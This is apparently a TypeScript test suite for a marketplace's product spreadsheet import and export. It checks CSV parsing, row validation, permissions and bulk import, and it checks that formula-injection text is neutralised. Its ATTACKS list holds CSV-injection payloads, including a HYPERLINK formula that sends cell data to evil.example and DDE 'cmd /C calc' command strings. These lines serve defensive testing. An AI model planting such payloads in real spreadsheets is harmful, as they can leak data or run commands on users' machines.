import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { testEngines } from '../../core/db/testing.ts';
import type { AppError } from '../../core/errors.ts';
import { countProducts, tinyMarket, type Market } from '../../../test/fixtures.ts';
import { createProduct, exportProducts, importProducts, listProducts, parseCsv, csvLine, SPREADSHEET_COLUMNS } from './index.ts';
import { csvDocument, neutraliseCell, restoreCell } from '../../core/csv.ts';
import { rowToInput, type ColumnKey } from './spreadsheet-columns.ts';
import { sampleProduct } from '../../../test/fixtures.ts';

const HEADER = SPREADSHEET_COLUMNS.map((c) => c.key);
function row(leaf: string, sku: string, over: Record<string, string> = {}): string[] {
  const base: Record<string, string> = {
    sku,
    category: leaf,
    title_zh: `测试商品 ${sku}`,
    title_en: `Test item ${sku}`,
    unit: 'pcs',
    moq: '120',
    currency: 'CNY',
    price_1: '3.50',
    qty_2: '600',
    price_2: '3.2',
    stock: '1000',
    hs_code: '9615.1100.00',
    carton_units: '240',
    carton_length_cm: '50',
    carton_width_cm: '40',
    carton_height_cm: '35',
    carton_gross_kg: '12.5',
    attributes: 'material=alloy; colour=gold',
    images: 'https://example.com/a.jpg',
  };
  const r = { ...base, ...over };
  return HEADER.map((k) => r[k] ?? '');
}
const csv = (rows: string[][]) => Buffer.from(csvLine(HEADER) + rows.map(csvLine).join(''), 'utf8');

test('CSV reader handles quotes, commas, newlines and a BOM', () => {
  assert.deepEqual(parseCsv('\uFEFFa,"b,c","d ""e""",\r\n"x\ny",2\n'), [
    ['a', 'b,c', 'd "e"', ''],
    ['x\ny', '2'],
  ]);
});

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1+1',
];

test('CSV export cells beginning with = + - @ TAB CR (or ＝＋－＠) get a leading apostrophe; numbers such as -12.5 do not', () => {
  const [, row] = parseCsv(csvDocument(['a'], [[...ATTACKS, '-12.5', '+7', -12.5, 'plain', "'quoted"]]).toString('utf8'));
  assert.deepEqual(row, [...ATTACKS.map((a) => `'${a}`), '-12.5', '+7', '-12.5', 'plain', "'quoted"]);
});

test('import undoes the export neutralisation exactly, for every string (apostrophes included)', () => {
  const piece = fc.constantFrom("'", '=', '+', '-', '@', '＝', '\t', '\r', ' ', 'a', '1', '.', '保');
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 8 }).map((p) => p.join('')),
      (s) => restoreCell(neutraliseCell(s)) === s,
    ),
    { numRuns: 2000 },
  );
  assert.equal(restoreCell("'abc"), "'abc", 'an apostrophe not before a formula trigger is kept');
  assert.equal(restoreCell("'=1+1"), '=1+1');
});

test('a sheet cell holding a NUL character is a row error naming the column, not a 500', () => {
  const cells: Partial<Record<ColumnKey, string>> = { sku: 'N-1', title_zh: '保温\u0000杯', moq: '1', price_1: '1', unit: 'pcs' };
  const res = rowToInput(
    (k) => cells[k] ?? '',
    7,
    () => '010101',
  );
  assert.deepEqual(
    res.errors.map((e) => [e.row, e.column]),
    [[7, 'title_zh']],
  );
  assert.match(res.errors[0]!.reason, /contains a NUL character/);
});

for (const engine of testEngines()) {
  describe(`spreadsheet import/export on ${engine}`, () => {
    let m: Market;
    let count: () => Promise<number>;
    before(async () => {
      m = await tinyMarket(engine);
      count = async () => (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '1' })).total;
    });
    after(() => m.d.close());

    test('a clean sheet imports completely, prices become minor units', async () => {
      const before = await count();
      const rep = await importProducts(
        m.d.db,
        m.merchant,
        csv([row(m.categoryLeaf, 'IMP-1'), row(m.categoryLeaf, 'IMP-2', { qty_2: '', price_2: '' })]),
        'csv',
      );
      assert.deepEqual(rep, { rows: 2, created: 2, updated: 0 });
      assert.equal(await count(), before + 2);
      const items = (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '100' })).items;
      const p = items.find((x) => x.sku === 'IMP-1')!;
      assert.deepEqual(p.priceTiers, [
        { minQty: 120, unitPrice: 350 },
        { minQty: 600, unitPrice: 320 },
      ]);
      assert.equal(p.hsCode, '9615110000');
      assert.deepEqual(p.attributes, { material: 'alloy', colour: 'gold' });
    });

    test('every bad row is reported with row, column and reason, and nothing is written', async () => {
      const before = await count();
      const rows = [
        row(m.categoryLeaf, 'OK-1'),
        row(m.categoryLeaf, 'BAD-PRICE', { price_1: '-2' }),
        row(m.categoryLeaf, 'BAD-CAT', { category: '不存在的类目' }),
        row(m.categoryLeaf, 'BAD-TIER', { price_2: '9.99' }),
        row(m.categoryLeaf, 'OK-1'),
        row(m.categoryLeaf, 'BAD-HS', { hs_code: '12' }),
        row(m.categoryLeaf, 'BAD-DEC', { price_1: '1.234' }),
        row(m.categoryLeaf, 'BAD-UNIT', { unit: 'bottles' }),
        row(m.categoryLeaf, 'BAD-CARTON', { carton_length_cm: 'big' }),
      ];
      await assert.rejects(importProducts(m.d.db, m.merchant, csv(rows), 'csv'), (e: AppError) => {
        assert.equal(e.code, 'IMPORT_REJECTED');
        const errors = (e.details as { errors: { row: number; column: string; reason: string }[] }).errors;
        const at = (r: number) => errors.filter((x) => x.row === r).map((x) => x.column);
        assert.deepEqual(at(2), [], 'row 2 is fine');
        assert.deepEqual(at(3), ['price_1']);
        assert.deepEqual(at(4), ['category']);
        assert.deepEqual(at(5), ['price_2']);
        assert.deepEqual(at(6), ['sku']);
        assert.deepEqual(at(7), ['hs_code']);
        assert.deepEqual(at(8), ['price_1']);
        assert.deepEqual(at(9), ['unit']);
        assert.deepEqual(at(10), ['carton_length_cm']);
        assert.ok(errors.every((x) => x.reason.length > 3));
        return true;
      });
      assert.equal(await count(), before, 'all or nothing');
    });

    test('headers may be the Chinese labels; unknown or missing columns are named', async () => {
      const zhHeader = SPREADSHEET_COLUMNS.map((c) => c.zh);
      const data = Buffer.from(csvLine(zhHeader) + csvLine(row(m.categoryLeaf, 'ZH-1')), 'utf8');
      assert.equal((await importProducts(m.d.db, m.merchant, data, 'csv')).created, 1);
      const missing = Buffer.from('sku,colour\nA,red\n');
      await assert.rejects(importProducts(m.d.db, m.merchant, missing, 'csv'), (e: AppError) => {
        const errs = (e.details as { errors: { column: string }[] }).errors.map((x) => x.column);
        return e.code === 'IMPORT_REJECTED' && errs.includes('colour') && errs.includes('price_1');
      });
    });

    test('not a spreadsheet: a clear refusal', async () => {
      await assert.rejects(importProducts(m.d.db, m.merchant, Buffer.from('PK\u0003\u0004garbage'), 'xlsx'), (e: AppError) => e.code === 'BAD_SPREADSHEET');
      await assert.rejects(importProducts(m.d.db, m.merchant, Buffer.from('hello'), 'xlsx'), (e: AppError) => e.code === 'BAD_SPREADSHEET');
      await assert.rejects(importProducts(m.d.db, m.merchant, Buffer.from([0, 1, 2, 0]), 'csv'), (e: AppError) => e.code === 'BAD_SPREADSHEET');
      await assert.rejects(importProducts(m.d.db, m.buyer, csv([row(m.categoryLeaf, 'B')]), 'csv'), (e: AppError) => e.code === 'FORBIDDEN');
    });

    for (const format of ['csv', 'xlsx'] as const) {
      test(`export as ${format} and import back: the same products, updated in place`, async () => {
        const n = await count();
        const file = await exportProducts(m.d.db, m.merchant, format);
        if (format === 'xlsx') {
          const wb = new ExcelJS.Workbook();
          await wb.xlsx.load(file as unknown as ArrayBuffer);
          assert.equal(wb.worksheets[0]!.rowCount, n + 1);
        }
        const rep = await importProducts(m.d.db, m.merchant, file, format);
        assert.deepEqual(rep, { rows: n, created: 0, updated: n });
        assert.equal(await count(), n);
      });
    }

    test('a title =HYPERLINK(…) and other formula text export as text (csv: apostrophe; xlsx: string cell, no formula) and import back unchanged', async () => {
      const p = await createProduct(m.d.db, m.merchant, {
        ...sampleProduct(m.categoryLeaf, '-INJ-1'),
        titleEn: ATTACKS[0],
        titleZh: '＝1+1 保温杯',
        descriptionEn: ATTACKS[3],
        attributes: { '@cmd': ATTACKS[1]!, note: '=1+1' },
      });
      const csvFile = await exportProducts(m.d.db, m.merchant, 'csv');
      const [header, ...rows] = parseCsv(csvFile.toString('utf8'));
      const cell = (k: string) => rows.find((r) => r[0] === "'-INJ-1")![header!.indexOf(k)];
      assert.equal(cell('title_en'), `'${ATTACKS[0]}`);
      assert.equal(cell('title_zh'), "'＝1+1 保温杯");
      assert.equal(cell('description_en'), `'${ATTACKS[3]}`);
      assert.equal(cell('attributes'), `'@cmd=${ATTACKS[1]}; note==1+1`);
      assert.equal(cell('price_1'), '12.50');
      const xlsxFile = await exportProducts(m.d.db, m.merchant, 'xlsx');
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(xlsxFile as unknown as ArrayBuffer);
      const ws = wb.worksheets[0]!;
      const titleCol = HEADER.indexOf('title_en') + 1;
      let found = 0;
      ws.eachRow((r) => {
        r.eachCell((c) => assert.ok(c.type !== ExcelJS.ValueType.Formula && c.formula === undefined, `no formula cells (${String(c.address)})`));
        if (r.getCell(1).value === '-INJ-1') {
          found++;
          assert.equal(r.getCell(titleCol).type, ExcelJS.ValueType.String);
          assert.equal(r.getCell(titleCol).value, ATTACKS[0]);
        }
      });
      assert.equal(found, 1);
      for (const [format, file] of [
        ['csv', csvFile],
        ['xlsx', xlsxFile],
      ] as const) {
        await importProducts(m.d.db, m.merchant, file, format);
        const back = (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '100' })).items.find((x) => x.id === p.id)!;
        assert.deepEqual([back.titleEn, back.titleZh, back.descriptionEn, back.attributes], [p.titleEn, p.titleZh, p.descriptionEn, p.attributes], format);
      }
    });

    test('a product with ten price tiers exports all ten and imports back with all ten (tiers 6–10 were dropped)', async () => {
      const tiers = Array.from({ length: 10 }, (_, i) => ({ minQty: 100 * (i + 1), unitPrice: 2000 - 100 * i }));
      const p = await createProduct(m.d.db, m.merchant, { ...sampleProduct(m.categoryLeaf, 'TEN-1'), priceTiers: tiers });
      for (const format of ['csv', 'xlsx'] as const) {
        await importProducts(m.d.db, m.merchant, await exportProducts(m.d.db, m.merchant, format), format);
        const back = (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '100' })).items.find((x) => x.id === p.id)!;
        assert.deepEqual(back.priceTiers, tiers, format);
      }
    });

    test('the operator cannot import goods for a buyer entity: 4xx and nothing written', async () => {
      const buyerId = m.buyer.entityId!;
      const goods = () => countProducts(m.d, buyerId);
      await assert.rejects(importProducts(m.d.db, m.operator, csv([row(m.categoryLeaf, 'FOR-BUYER-1')]), 'csv', { merchantId: buyerId }), (e: AppError) => {
        assert.equal(e.code, 'VALIDATION');
        assert.match(e.message, /not a merchant/);
        return true;
      });
      assert.equal(await goods(), 0);
    });

    test('thousands of rows import in batches inside one transaction', async () => {
      const rows = Array.from({ length: 3000 }, (_, i) => row(m.categoryLeaf, `BULK-${i}`));
      let writes = 0;
      const rep = await importProducts(m.d.db, m.merchant2, csv(rows), 'csv', { onProgress: (phase) => void (phase === 'write' && writes++) });
      assert.equal(rep.created, 3000);
      assert.ok(writes >= 6, 'progress reported per batch');
    });
  });
}
